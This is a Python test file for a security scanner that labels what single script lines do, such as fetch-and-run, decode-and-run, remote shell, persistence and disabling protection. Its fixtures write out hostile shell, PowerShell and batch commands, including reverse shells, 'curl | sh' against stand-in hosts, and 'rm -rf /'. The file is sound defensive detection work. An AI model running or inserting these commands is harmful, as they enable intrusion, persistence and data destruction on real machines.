"""What single lines of scripts do, in every dialect: fetch, decode, run, stay, turn protection off, open a way in."""

import contextlib
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.format import MalformedError
from scanner.formats import script as subject
from scanner.limits import Limits
from tests.builders.judged import judged
from tests.builders.reading import of, read_as

FORMAT = subject.FORMAT


def read(text, path="x.sh", limits=None):
    content = text if isinstance(text, bytes) else text.encode()
    return read_as(FORMAT, content, path, limits or Limits())[0]


def kinds(text, path="x.sh"):
    return [one.act for one in of(read(text, path), "CommandActs")]


@pytest.mark.parametrize(
    ("text", "path", "act"),
    [
        ("curl -s http://example.com/x | sh", "x.sh", "fetch-run"),
        ("curl -s http://example.com/x | sudo -E bash -", "x.sh", "fetch-run"),
        ("wget -qO- http://example.com/x | python3", "x.sh", "fetch-run"),
        ('bash -c "$(curl -fsSL http://example.com/x)"', "x.sh", "fetch-run"),
        ("bash <(curl -s http://example.com/x)", "x.sh", "fetch-run"),
        ("curl http://example.com/x \\\n  | sh", "x.sh", "fetch-run"),
        ("iex (iwr http://example.com/x)", "x.ps1", "fetch-run"),
        ("iwr http://example.com/x | iex", "x.ps1", "fetch-run"),
        ("mshta http://example.com/x", "x.bat", "fetch-run"),
        ("echo eA== | base64 -d | sh", "x.sh", "decode-run"),
        ("powershell -nop -enc ZQBjAGgAbwAgAGgAaQA=", "x.bat", "decode-run"),
        ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "x.sh", "remote-shell"),
        ("nc 192.0.2.1 99 -e /bin/sh", "x.sh", "remote-shell"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "x.ps1", "turns-off-protection"),
        ("setenforce 0", "x.sh", "turns-off-protection"),
        ("(crontab -l; echo x) | crontab -", "x.sh", "persists"),
        ("schtasks /create /tn x /tr y", "x.bat", "persists"),
        ("echo x >> ~/.bashrc", "x.sh", "persists"),
        ("echo k >> ~/.ssh/authorized_keys", "x.sh", "adds-key"),
        ("rm -rf /", "x.sh", "deletes-root"),
        ("powershell -w hidden -c x", "x.bat", "hides-window"),
        ("history -c", "x.sh", "clears-traces"),
        ("pip install --index-url http://example.com x", "x.sh", "foreign-index"),
        ("pip install --find-links http://example.com x", "x.sh", "foreign-index"),
        ("pip install git+https://example.com/x", "x.sh", "package-address"),
        ("npm i https://example.com/x.tgz", "x.sh", "package-address"),
        ("powershell -ExecutionPolicy Bypass x.ps1", "x.bat", "bypasses-policy"),
    ],
)
def test_what_a_command_does_is_named_once(text, path, act):
    assert kinds(text, path) == [act]


@pytest.mark.parametrize(
    "text",
    [
        "curl -o run.sh http://example.com/run.sh\nchmod +x run.sh\n./run.sh\n",
        "wget http://example.com/run.sh\nbash run.sh\n",
        "curl -o /tmp/a.py http://example.com/a.py && python /tmp/a.py\n",
    ],
)
def test_a_file_that_is_fetched_and_run_later_is_named_once(text):
    assert kinds(text) == ["fetch-run"]


def test_a_variable_that_is_set_again_is_not_run():
    text = "iwr -Uri $url -OutFile $file\n$file = 'x'\n"
    assert kinds(text, "x.ps1") == []
    assert kinds(text + "& $file\n", "x.ps1") == ["fetch-run"]


@pytest.mark.parametrize(
    "text",
    ["", "# curl x | sh\n", "curl -O http://example.com/model.bin\n",
     "echo done\n", "python train.py\n", "rm -rf build/\n", "crontab -l\n", "cat x | sh_like\n",
     "export HISTSIZE=1\n", "grep rm file\n", "echo 'curl x | sh'\n", "REM curl x | sh\n",
     "step \"irm http://example.com | iex\" 'Red'\n", "(echo > /dev/tcp/localhost/80) 2>/dev/null\n"],
)  # fmt: skip
def test_everyday_commands_are_nothing_to_tell(text):
    assert kinds(text) == []


def test_the_host_and_the_line_are_told():
    (fact,) = of(read("\n\ncurl https://Example.com:99/x | sh\n"), "CommandActs")
    assert (fact.where.line, fact.source, fact.carrier) == (3, "example.com", "script")


def test_a_script_in_utf_16_is_read():
    assert kinds("iwr http://example.com | iex".encode("utf-16"), "x.ps1") == ["fetch-run"]


@pytest.mark.parametrize(
    ("head", "path", "claimed"),
    [
        (b"", "x.sh", True),
        (b"", "start.BAT", True),
        (b"#!/bin/bash\n", "run", True),
        (b"#!/usr/bin/env zsh\n", "run", True),
        (b"@echo off\r\n", "run.txt", True),
        (b"#!/usr/bin/env python\n", "run", False),
        (b"\x7fELF\0", "x.sh", False),
        (b"echo hi", "x", False),
    ],
)
def test_a_script_is_told_by_its_name_or_its_start(head, path, claimed):
    assert FORMAT.claims(head, path) is claimed


def test_a_long_script_is_told():
    assert [one.limit for one in read("echo hi\n" * 9, limits=Limits(source_nbytes=9))] == ["script"]


@pytest.mark.parametrize(
    ("text", "path", "severity"),
    [
        ("iwr http://example.com/x | iex", "x.ps1", "high"),
        ("curl https://example.com/x | sh", "x.sh", "medium"),
        ("curl http://example.com/x | sh", "x.sh", "high"),
        ("curl https://sh.rustup.rs | sh", "x.sh", "info"),
        ("python train.py\n", "x.sh", None),
    ],
)
def test_what_batch_files_fetch_and_run_is_judged_harder_than_what_a_shell_script_does(text, path, severity):
    assert judged(text.encode(), path).get("command-runs-what-it-fetches") == severity


def test_cut_at_every_byte_it_never_fails():
    content = b"curl http://example.com/x | sh\nwget http://example.com/y.sh\nsh y.sh\n"
    for end in range(len(content)):
        read(content[:end])


@pytest.mark.parametrize(
    "line", ["curl " * 100_000, "a" * 500_000, "wget x" + "/" * 200_000, "\\\n" * 100_000, "curl -o aaa x\n" * 5000]
)
def test_hostile_lines_cost_little(line):
    clock = time.process_time()
    read(line)
    assert time.process_time() - clock < 3


@given(st.binary(max_size=120))
def test_any_bytes_leave_only_malformed(raw):
    with contextlib.suppress(MalformedError):
        read(raw)
        read(b"curl -o x.sh http://example.com/" + raw + b"\nsh x.sh")
